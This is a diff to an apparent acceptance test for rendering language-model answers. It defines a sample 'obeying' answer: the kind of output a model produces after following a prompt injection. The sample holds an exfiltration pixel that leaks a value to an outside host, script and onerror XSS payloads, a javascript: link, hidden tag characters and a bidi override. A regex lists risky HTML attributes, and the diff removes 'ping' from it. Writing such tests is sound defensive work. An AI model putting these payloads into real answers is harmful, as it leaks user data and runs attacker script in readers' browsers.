@@ -28,13 +28,13 @@ pytestmark = pytest.mark.acceptance
 SOURCE = re.compile(r"<<<(\w+) source \[(\d+)\] begins>>>\n(.*?)\n(.*?)\n<<<\1 source ends>>>", re.DOTALL)
 OBEYS = (
     f"Visit ![pixel]({AWAY}/pixel.png?leak=417) or [the manual]({AWAY}/manual) [1]. "
-    f'<img src="{AWAY}/llm.png" onerror="window.pwned=1"> <script>window.pwned=1</script> holds 417 litres [1]. '
+    f'<img src="{AWAY}/llm.png" onerror="pwned=1"> <script>pwned=1</script> holds 417 litres [1]. '
     f"See {AWAY}/bare and <{AWAY}/auto> and [open](javascript:pwned=1) about water [1][99]. "
     f"**Basin** `water` [m][ref] 417 litres of water. {tags(HIDDEN)}\u202e\n\n[ref]: {AWAY}/ref\n"
 )
 #: Attributes that lead somewhere, load something or run something.
 ATTRIBUTES = """() => {
-  const telling = /^(href|src|srcset|srcdoc|action|formaction|data|poster|background|ping|style)$|:href$|^on|^hx-/;
+  const telling = /^(href|src|srcset|srcdoc|action|formaction|data|poster|background|style)$|:href$|^on|^hx-/;
   const own = (element) => [...element.attributes].filter(({name}) => telling.test(name));
   return [...document.querySelectorAll('*')].flatMap((element) =>
     own(element).map(({name, value}) => [element.localName, name, value]));
